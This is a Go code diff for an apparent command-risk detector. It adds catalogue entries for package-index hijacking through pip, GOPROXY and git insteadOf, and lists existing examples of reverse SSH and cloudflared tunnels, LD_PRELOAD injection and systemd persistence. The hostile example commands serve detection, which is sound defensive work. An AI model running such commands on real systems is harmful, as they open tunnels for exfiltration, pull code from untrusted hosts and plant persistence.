@@ -95,6 +95,9 @@ var Catalogue = []Entry{
 	{"exfil/tunnel", "ssh", "https://man.openbsd.org/ssh.1#R", "ssh -R 8080:localhost:22 x.example", true},
 	{"exfil/tunnel", "cloudflared", "https://developers.cloudflare.com/cloudflare-one/connections/connect-networks/do-more-with-tunnels/trycloudflare/", "cloudflared tunnel --url http://localhost:22", true},
 	{"priv/preload", "ld.so", "https://man7.org/linux/man-pages/man8/ld.so.8.html", "export LD_PRELOAD=/tmp/x.so", true},
+	{"exec/package_index", "pip", "https://pip.pypa.io/en/stable/cli/pip_install/#cmdoption-extra-index-url", "pip install --extra-index-url http://198.51.100.7/simple requests", true},
+	{"exec/package_index", "go", "https://go.dev/ref/mod#environment-variables", "go env -w GOPROXY=http://198.51.100.7,direct", true},
+	{"exec/package_index", "git", "https://git-scm.com/docs/git-config#Documentation/git-config.txt-urlltbasegtinsteadOf", "git config --global url.http://198.51.100.7/.insteadOf https://github.com/", true},
 	{"hide/persistence", "systemd", "https://www.freedesktop.org/software/systemd/man/latest/systemd.service.html", "cp x.service ~/.config/systemd/user/", true},
 }
 
@@ -373,7 +376,9 @@ func (a *analyzer) install(name string, args []string, line string) {
 	default:
 		return
 	}
-	for _, x := range operands(args[1:]) {
+	rest, indexes := indexValues(args[1:]) // registry.go
+	a.otherIndex(indexes, line)
+	for _, x := range operands(rest) {
 		low := strings.ToLower(x)
 		u := strings.TrimPrefix(low, "git+")
 		if _, after, ok := strings.Cut(u, " @ "); ok { // pip's "name @ URL"
